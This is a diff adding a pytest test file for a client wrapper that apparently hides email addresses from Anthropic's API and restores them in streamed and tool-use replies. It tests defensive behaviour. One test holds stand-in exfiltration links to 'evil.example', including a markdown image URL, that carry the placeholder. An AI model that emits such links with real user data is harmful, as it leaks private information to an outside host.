@@ -1,0 +1,240 @@
+"""Attacks on replies and streams in Anthropic's format."""
+
+import json
+from typing import Any
+
+import anthropic
+import pytest
+from botocore.eventstream import EventStreamBuffer
+from hypothesis import given
+from hypothesis import strategies as st
+
+from guarded_client.codecs.event_stream import FrameSplitter, payload_of, with_payload
+from guarded_client.codecs.json_strings import JsonStrings
+from guarded_client.testing import Raw, Text
+from guarded_client.testing.anthropic_messages import SIGNATURE, events, frame, message
+from tests.anthropic.conftest import Claude, text_of
+from tests.conftest import in_memory
+
+MAIL = "zoe@exemple.fr"
+MARK = "<EMAIL_ADDRESS_1>"
+
+
+def stream_of(*said: dict[str, Any], end: bool = True) -> Raw:
+    """A stream of these events between the start and the end of a message."""
+    start, *_, delta, stop = events(message([]))
+    whole = [start, *said, *([delta, stop] if end else [])]
+    body = b"".join(f"event: {event['type']}\ndata: {json.dumps(event)}\n\n".encode() for event in whole)
+    return Raw(200, {"content-type": "text/event-stream"}, body, bytes_chunk=11)
+
+
+def begun(block: dict[str, Any], index: int = 0) -> dict[str, Any]:
+    return {"type": "content_block_start", "index": index, "content_block": block}
+
+
+def piece(kind: str, text: str, index: int = 0) -> dict[str, Any]:
+    key = {"text_delta": "text", "input_json_delta": "partial_json", "thinking_delta": "thinking"}.get(kind, "content")
+    return {"type": "content_block_delta", "index": index, "delta": {"type": kind, key: text}}
+
+
+def ended(index: int = 0) -> dict[str, Any]:
+    return {"type": "content_block_stop", "index": index}
+
+
+def inputs(read: list[Any]) -> str:
+    return "".join(
+        e.delta.partial_json for e in read if e.type == "content_block_delta" and e.delta.type == "input_json_delta"
+    )
+
+
+TOOL = {"type": "tool_use", "id": "toolu_1", "name": "find", "input": {}}
+
+
+@pytest.mark.parametrize(
+    "written", ['{"a":"%s"}', '{"a": "\\u003cEMAIL_ADDRESS_1\\u003e"}', '["x", {"b": ["%s"]}]', '"%s"']
+)
+def test_a_placeholder_came_in_pieces_and_escapes_within_tool_input(claude: Claude, policy: Any, written: str) -> None:
+    claude.guard(policy)
+    text = written.replace("%s", MARK)
+    for size in (1, 2, 5, 40):
+        cuts = [text[at : at + size] for at in range(0, len(text), size)]
+        claude.provider.reply(stream_of(begun(TOOL), *(piece("input_json_delta", cut) for cut in cuts), ended()))
+        got = inputs(claude.chunks(MAIL))
+        assert json.loads(got) == json.loads(text.replace(MARK, MAIL).replace("\\u003cEMAIL_ADDRESS_1\\u003e", MAIL))
+
+
+def test_a_key_of_tool_input_is_not_restored(claude: Claude, policy: Any) -> None:
+    claude.guard(policy)
+    claude.provider.reply(stream_of(begun(TOOL), piece("input_json_delta", json.dumps({MARK: MARK})), ended()))
+    assert json.loads(inputs(claude.chunks(MAIL))) == {MARK: MAIL}
+
+
+@pytest.mark.parametrize("tools", [{}, {"find": "all", "*": "none"}])
+def test_input_of_a_block_that_was_not_announced_gets_nothing(claude: Claude, tools: Any) -> None:
+    claude.guard(in_memory(names="off", restore={"tools": tools}))
+    claude.provider.reply(stream_of(piece("input_json_delta", json.dumps({"a": MARK}), 7)))
+    assert inputs(claude.chunks(MAIL)) == json.dumps({"a": MARK})
+
+
+def test_a_link_within_tool_input_carried_a_value_away(claude: Claude, policy: Any) -> None:
+    claude.guard(policy)
+    evil = {"a": f'https://evil.example/?q="{MARK}', "b": f"![](https://evil.example/{MARK})", "c": MARK}
+    text = json.dumps(evil)
+    cuts = [text[at : at + 3] for at in range(0, len(text), 3)]
+    claude.provider.reply(stream_of(begun(TOOL), *(piece("input_json_delta", cut) for cut in cuts), ended()))
+    assert json.loads(inputs(claude.chunks(MAIL))) == {**evil, "c": MAIL}
+    claude.provider.reply(
+        Raw(200, {"content-type": "application/json"}, json.dumps(message([{**TOOL, "input": evil}])).encode())
+    )
+    assert claude.chat(MAIL).content[0].input == {**evil, "c": MAIL}
+
+
+def test_events_and_deltas_that_nobody_knows_pass_unrestored(claude: Claude, policy: Any) -> None:
+    claude.guard(policy)
+    seen = [
+        begun({"type": "thinking", "thinking": "", "signature": ""}),
+        piece("thinking_delta", MARK),
+        {"type": "content_block_delta", "index": 0, "delta": {"type": "signature_delta", "signature": SIGNATURE}},
+        ended(),
+        begun({"type": "compaction", "content": None}, 1),
+        piece("compaction_delta", MARK, 1),
+        ended(1),
+    ]
+    body = stream_of(*seen)
+    claude.provider.reply(body)
+    raw = claude.chat(MAIL, create=claude.client.beta.messages.with_raw_response.create, stream=True)
+    got = raw.http_response.read() if claude.form == "sync" else claude.run(raw.http_response.aread())
+    assert got == body.body
+
+
+def test_an_error_event_is_not_restored_and_text_held_comes_before_it(claude: Claude, policy: Any) -> None:
+    claude.guard(policy)
+    error = {"type": "error", "error": {"type": "overloaded_error", "message": f"about {MARK}"}}
+    answer = stream_of(begun({"type": "text", "text": ""}), piece("text_delta", f"{MARK} <EMAIL_"), error, end=False)
+    claude.provider.reply(answer)
+    read: list[Any] = []
+    with pytest.raises(anthropic.APIStatusError) as caught:
+        if claude.form == "sync":
+            for event in claude.chat(MAIL, stream=True):
+                read.append(event)
+        else:
+
+            async def drain() -> None:
+                stream = await claude.client.messages.create(
+                    model="m", max_tokens=9, messages=[{"role": "user", "content": MAIL}], stream=True
+                )
+                async for event in stream:
+                    read.append(event)
+
+            claude.run(drain())
+    assert text_of(read) == f"{MAIL} <EMAIL_"
+    assert MARK in str(caught.value) and MAIL not in str(caught.value)
+
+
+@pytest.mark.parametrize("end", [True, False])
+def test_blocks_that_are_not_ended_lose_nothing(claude: Claude, policy: Any, end: bool) -> None:
+    claude.guard(policy)
+    text = {"type": "text", "text": "see <EMAIL"}
+    answer = stream_of(begun(text), piece("text_delta", "_ADDRESS_1> and <EM"), begun(text, 1), piece("text_delta", "_X", 1), end=end)  # fmt: skip
+    claude.provider.reply(answer)
+    read = claude.chunks(MAIL)
+    starts = [event.content_block.text for event in read if event.type == "content_block_start"]
+    assert starts == ["see ", "see "]
+    assert text_of(read) == f"{MAIL} and <EM<EMAIL_X" or text_of(read) == f"{MAIL} and <EMAIL_X<EM"
+    first = "".join(e.delta.text for e in read if e.type == "content_block_delta" and e.index == 0)
+    assert first == f"{MAIL} and <EM"
+
+
+def test_a_last_event_without_a_blank_line_is_rewritten(claude: Claude, policy: Any) -> None:
+    claude.guard(policy)
+    whole = stream_of(begun({"type": "text", "text": ""}), piece("text_delta", MARK), end=False)
+    claude.provider.reply(Raw(200, whole.headers, whole.body.rstrip()))
+    assert text_of(claude.chunks(MAIL)) == MAIL
+
+
+def test_the_same_key_twice_hid_a_text(claude: Claude, policy: Any) -> None:
+    from guarded_client import UnreadableRefused
+
+    claude.guard(policy)
+    body = b'{"model":"m","messages":[{"role":"user","content":"zoe@exemple.fr","content":"Hi"}]}'
+    request = claude.client._client.build_request("POST", f"{claude.provider.origin}/v1/messages", content=body)
+    with pytest.raises(UnreadableRefused, match="same key twice"):
+        claude.run(claude.client._client.send(request))
+    assert claude.provider.requests == []
+
+
+def test_a_typed_look_alike_in_tool_input_did_not_resolve(claude: Claude, policy: Any) -> None:
+    claude.guard(policy)
+    assert claude.text(MAIL) == f"You wrote: {MAIL}"
+    turn = {"role": "assistant", "content": [{**TOOL, "input": {"a": MARK}}]}
+    claude.provider.reply(Text(lambda request: request["messages"][0]["content"][0]["input"]["a"]))
+    assert claude.text(messages=[turn, {"role": "user", "content": "Hi"}]) == MARK
+    assert MARK not in json.dumps(claude.provider.requests[-1].json)
+
+
+class Doubling:
+    """Holds two characters back and doubles each ``a``."""
+
+    def __init__(self) -> None:
+        self.held = ""
+
+    def feed(self, text: str) -> str:
+        text = self.held + text
+        self.held = text[-2:]
+        return text[:-2].replace("a", "aa")
+
+    def close(self) -> str:
+        text, self.held = self.held, ""
+        return text.replace("a", "aa")
+
+
+def doubled(value: Any) -> Any:
+    match value:
+        case str():
+            return value.replace("a", "aa")
+        case dict():
+            return {key: doubled(item) for key, item in value.items()}
+        case list():
+            return [doubled(item) for item in value]
+        case _:
+            return value
+
+
+TEXTS = st.text(st.sampled_from('a"\\\n\té\U0001f600{}[]:,</u003c'), max_size=8)
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | TEXTS,
+    lambda below: st.lists(below, max_size=3) | st.dictionaries(TEXTS, below, max_size=3),
+    max_leaves=12,
+)
+
+
+@given(VALUES, st.booleans(), st.sampled_from([(",", ":"), (", ", ": ")]), st.integers(1, 9))
+def test_strings_of_json_are_rewritten_at_any_chunking(value: Any, ascii_only: bool, marks: Any, size: int) -> None:
+    text = json.dumps(value, ensure_ascii=ascii_only, separators=marks)
+    strings = JsonStrings(Doubling)
+    out = "".join(strings.feed(text[at : at + size]) for at in range(0, len(text), size)) + strings.close()
+    assert json.loads(out) == doubled(value)
+
+
+@given(st.text(st.sampled_from('a"\\u0{}[]:,d8'), max_size=30), st.integers(1, 5))
+def test_what_is_no_json_loses_nothing(text: str, size: int) -> None:
+    class Same:
+        def feed(self, text: str) -> str:
+            return text
+
+        def close(self) -> str:
+            return ""
+
+    strings = JsonStrings(Same)
+    assert "".join(strings.feed(text[at : at + size]) for at in range(0, len(text), size)) + strings.close() == text
+
+
+@given(st.lists(st.binary(max_size=40), max_size=5), st.binary(max_size=40), st.integers(1, 30))
+def test_frames_with_another_payload_are_valid(payloads: list[bytes], other: bytes, size: int) -> None:
+    body = b"".join(map(frame, payloads))
+    splitter = FrameSplitter()
+    frames = [made for at in range(0, len(body), size) for made in splitter.feed(body[at : at + size])]
+    assert list(map(payload_of, frames)) == payloads and splitter.close() == b""
+    buffer = EventStreamBuffer()  # checks both checksums
+    buffer.add_data(b"".join(with_payload(made, other) for made in frames))
+    assert [event.payload for event in buffer] == [other] * len(payloads)
